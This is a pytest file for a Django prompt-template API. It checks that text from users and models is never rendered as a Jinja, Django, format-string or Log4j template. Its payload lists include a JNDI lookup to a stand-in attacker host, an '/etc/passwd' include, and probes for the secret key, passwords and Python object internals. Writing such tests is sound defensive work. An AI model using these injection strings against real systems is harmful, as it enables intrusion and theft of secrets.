"""Template injection: what people and models write is never a template, neither of a prompt nor of a page."""

from __future__ import annotations

from typing import Any

import pytest
from django.test import Client

from prompts.models import PromptVersion
from prompts.tests.admin.stories import answered
from prompts.tests.factories import make_version
from prompts.tests.personas import client_of

TYPE, RENDER = "/api/ai/prompts/text", "/api/ai/prompts/text/render"
#: Of Jinja, Django, str.format, printf, string.Template, ERB, Log4j: what would be another text if anything read it.
PLAIN = [
    "{x.__class__.__mro__}",
    "{x:>999999999}",
    "{0.__init__.__globals__}",
    "{% load log %}{% debug %}",
    "{% include '/etc/passwd' %}",
    "%(x)s %n %999999999d",
    "${7*7} #{7*7} <%= 7*7 %>",
    "${jndi:ldap://evil.example/x}",
    "$x ${x}",
    "{ {input} }",
]
REFUSED = ["{{7*7}}", "{{ input.__class__ }}", "{{input|safe}}", "{{settings.SECRET_KEY}}", "{{}}", "{{input"]


@pytest.mark.parametrize("text", PLAIN)
def test_in_a_template_it_is_plain_text(root: Any, text: str) -> None:
    version = make_version(f"{text} {{{{input}}}}")
    answer = client_of(root).post(RENDER, {"variables": {"input": "x"}, "versionNumber": version.version_number})
    assert answer.status_code == 200, answer.content
    assert f"{text} x" in answer.json()["data"].values()


@pytest.mark.parametrize("text", REFUSED)
def test_double_braces_around_anything_but_a_name_are_refused(root: Any, text: str) -> None:
    answer = client_of(root).post(TYPE, {"template": f"{{{{input}}}} {text}"})
    assert answer.status_code == 400
    assert PromptVersion.objects.filter(prompt_type__slug="text").count() == 1


@pytest.mark.parametrize("text", [*PLAIN, *REFUSED, "{{input}}", "{{other}}{{input}}"])
def test_a_value_is_never_looked_at_again(root: Any, text: str) -> None:
    version = make_version("<{{input}}|{{other}}>")
    sent = {"variables": {"input": text, "other": "{{input}}"}, "versionNumber": version.version_number}
    answer = client_of(root).post(RENDER, sent)
    assert f"<{text}|{{{{input}}}}>" in answer.json()["data"].values()


def test_a_page_renders_nothing_of_what_it_shows(root: Any, console: Client) -> None:
    tags = "{% debug %}{{ request.user.password }}{{ 7|add:7 }}{% include 'admin/index.html' %}"
    request = answered(tags, root, prompt_text=tags, purpose=tags)
    page = console.get(f"/admin/prompts/promptrequest/{request.pk}/change/")
    assert page.text.count("{% debug %}{{ request.user.password }}{{ 7|add:7 }}") >= 3
